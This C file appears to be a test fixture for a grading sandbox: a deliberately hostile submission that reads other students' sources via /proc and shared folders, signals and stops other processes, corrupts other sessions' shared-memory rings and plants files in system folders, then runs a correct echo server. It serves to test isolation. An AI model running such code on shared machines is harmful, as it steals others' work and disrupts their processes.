/*
 * A hostile submission: before it serves as a correct concurrent echo
 * server, it tries to reach what is not its own, and prints what it finds
 * (its output goes into its own session and report, back to its author):
 *
 *   1 processes   the others' command lines in /proc (socklab's names the
 *                 class folder and the results), and signals to them
 *   2 files       the class folder found there, the other work folders in
 *                 /tmp, the folders above its own, /root and /home
 *   3 rings       the other sessions' rings in /dev/shm, written into
 *   4 leftovers   a file in /tmp and in /dev/shm, a System V segment
 *   5 system      a file written into /etc and /usr
 *
 * tests/cmd/grade.sh grades it beside a classmate whose source holds a
 * secret, and checks that nothing of the classmate's reaches its results,
 * that nothing it made is left, and that it is graded like any other.
 */
#include <arpa/inet.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ipc.h>
#include <sys/shm.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

static int files_read, said; /* bounds: a crowded machine has much to say */

#define SAY_MAX	 40 /* lines of what it could not reach */
#define say(...) (said++ < SAY_MAX ? printf(__VA_ARGS__) : 0)

/* Prints the start of every .c file in dir and one level below. */
static void steal_sources(const char *dir, int depth)
{
	DIR *d = opendir(dir);
	struct dirent *de;

	if (!d) {
		say("  cannot list %s: %s\n", dir, strerror(errno));
		return;
	}
	while ((de = readdir(d)) && files_read < 40) {
		char path[4096], text[200];
		size_t len = strlen(de->d_name);
		ssize_t n;
		int fd;

		if (de->d_name[0] == '.')
			continue;
		snprintf(path, sizeof(path), "%s/%s", dir, de->d_name);
		if (de->d_type == DT_DIR && depth > 0) {
			steal_sources(path, depth - 1);
			continue;
		}
		if (len < 3 || strcmp(de->d_name + len - 2, ".c") != 0)
			continue;
		if ((fd = open(path, O_RDONLY)) < 0) {
			say("  cannot read %s: %s\n", path, strerror(errno));
			continue;
		}
		n = read(fd, text, sizeof(text) - 1);
		close(fd);
		text[n > 0 ? n : 0] = '\0';
		files_read++;
		printf("  read %s: %s\n", path, text);
	}
	closedir(d);
}

/* Every process it can see but itself -- socklab's among them, when it
 * runs as the same user -- : command line and cwd; and a SIGSTOP sent to
 * each of another user. Each word of a command line that is a folder is
 * searched for sources. */
static void attack_processes(void)
{
	DIR *d = opendir("/proc");
	struct dirent *de;
	int others = 0, stopped = 0;

	printf("attack 1: other processes\n");
	while (d && (de = readdir(d))) {
		char path[300], cmd[2048], cwd[1024];
		int pid = atoi(de->d_name), fd;
		struct stat st;
		ssize_t n;

		snprintf(path, sizeof(path), "/proc/%d", pid);
		if (pid <= 0 || pid == getpid() || stat(path, &st) < 0)
			continue;
		if (st.st_uid != getuid()) {
			others++;
			if (kill(pid, SIGSTOP) == 0) {
				stopped++;
				kill(pid, SIGCONT);
			}
		}
		snprintf(path, sizeof(path), "/proc/%d/cwd", pid);
		if ((n = readlink(path, cwd, sizeof(cwd) - 1)) > 0) {
			cwd[n] = '\0';
			steal_sources(cwd, 2);
		}
		snprintf(path, sizeof(path), "/proc/%d/cmdline", pid);
		if ((fd = open(path, O_RDONLY)) < 0)
			continue;
		n = read(fd, cmd, sizeof(cmd) - 1);
		close(fd);
		for (ssize_t i = 0; i < n; i += (ssize_t)strlen(cmd + i) + 1) {
			cmd[n] = '\0';
			if (stat(cmd + i, &st) == 0 && S_ISDIR(st.st_mode))
				steal_sources(cmd + i, 2);
		}
	}
	if (d)
		closedir(d);
	printf("  saw %d processes of other users, stopped %d of them\n", others, stopped);
	printf("  signal to socklab (pid %d): %s\n", (int)getppid(),
	       kill(getppid(), SIGSTOP) == 0 ? "sent" : strerror(errno));
	kill(getppid(), SIGCONT);
}

static void attack_files(void)
{
	char up[4096] = "..";

	printf("attack 2: other submissions' files\n");
	steal_sources("/tmp", 3);
	for (int i = 0; i < 6; i++) {
		steal_sources(up, 1);
		strcat(up, "/..");
	}
	steal_sources("/root", 2);
	steal_sources("/home", 3);
	steal_sources("/work", 3);
}

/* Writes junk into every ring in /dev/shm but its own. */
static void attack_rings(void)
{
	const char *mine = getenv("SOCKLAB_RING");
	DIR *d = opendir("/dev/shm");
	struct dirent *de;
	int rings = 0, written = 0;

	printf("attack 3: other sessions' rings\n");
	while (d && (de = readdir(d))) {
		char path[512], junk[256];
		int fd;

		if (!strstr(de->d_name, ".ring"))
			continue;
		snprintf(path, sizeof(path), "/dev/shm/%s", de->d_name);
		if (mine && strcmp(path, mine) == 0)
			continue;
		rings++;
		memset(junk, 'X', sizeof(junk));
		if ((fd = open(path, O_RDWR)) >= 0) {
			if (pwrite(fd, junk, sizeof(junk), 8192) > 0)
				written++;
			close(fd);
		}
	}
	if (d)
		closedir(d);
	printf("  %d rings of others seen, %d written into\n", rings, written);
}

static void leave(const char *path)
{
	int fd = open(path, O_WRONLY | O_CREAT, 0644);

	printf("  leave %s: %s\n", path, fd >= 0 ? "made" : strerror(errno));
	if (fd >= 0)
		close(fd);
}

static void attack_leftovers(void)
{
	int shm = shmget(0x50c1ab, 4096, IPC_CREAT | 0666);

	printf("attack 4: things left behind\n");
	leave("/tmp/socklab-hostile-was-here");
	leave("/dev/shm/socklab-hostile-was-here");
	printf("  leave a System V segment: %s\n", shm >= 0 ? "made" : strerror(errno));
	printf("attack 5: the system's files\n");
	leave("/etc/socklab-hostile-was-here");
	leave("/usr/socklab-hostile-was-here");
}

/* ---- then, a correct echo server ---------------------------------------- */

static void reap(int sig)
{
	int saved = errno;

	(void)sig;
	while (waitpid(-1, NULL, WNOHANG) > 0)
		;
	errno = saved;
}

static void echo(int conn)
{
	char buf[4096];
	ssize_t n;

	while ((n = read(conn, buf, sizeof(buf))) > 0 || (n < 0 && errno == EINTR))
		for (ssize_t off = 0, w; n > 0 && off < n; off += w)
			if ((w = write(conn, buf + off, (size_t)(n - off))) < 0)
				return;
}

int main(int argc, char **argv)
{
	struct sockaddr_in addr = {.sin_family = AF_INET, .sin_addr.s_addr = htonl(INADDR_ANY)};
	struct sigaction sa = {.sa_handler = reap, .sa_flags = SA_RESTART};
	int listener, on = 1;

	if (argc != 2)
		return 2;
	setvbuf(stdout, NULL, _IOLBF, 0);
	attack_processes();
	attack_files();
	attack_rings();
	attack_leftovers();
	sigemptyset(&sa.sa_mask);
	sigaction(SIGCHLD, &sa, NULL);
	addr.sin_port = htons((unsigned short)atoi(argv[1]));
	listener = socket(AF_INET, SOCK_STREAM, 0);
	if (listener < 0 || setsockopt(listener, SOL_SOCKET, SO_REUSEADDR, &on, sizeof(on)) < 0 ||
	    bind(listener, (struct sockaddr *)&addr, sizeof(addr)) < 0 ||
	    listen(listener, 16) < 0) {
		perror("bind");
		return 1;
	}
	for (;;) {
		int conn = accept(listener, NULL, NULL);
		if (conn < 0 && errno == EINTR)
			continue;
		if (conn < 0)
			return 1;
		if (fork() == 0) {
			close(listener);
			echo(conn);
			_exit(0);
		}
		close(conn);
	}
}
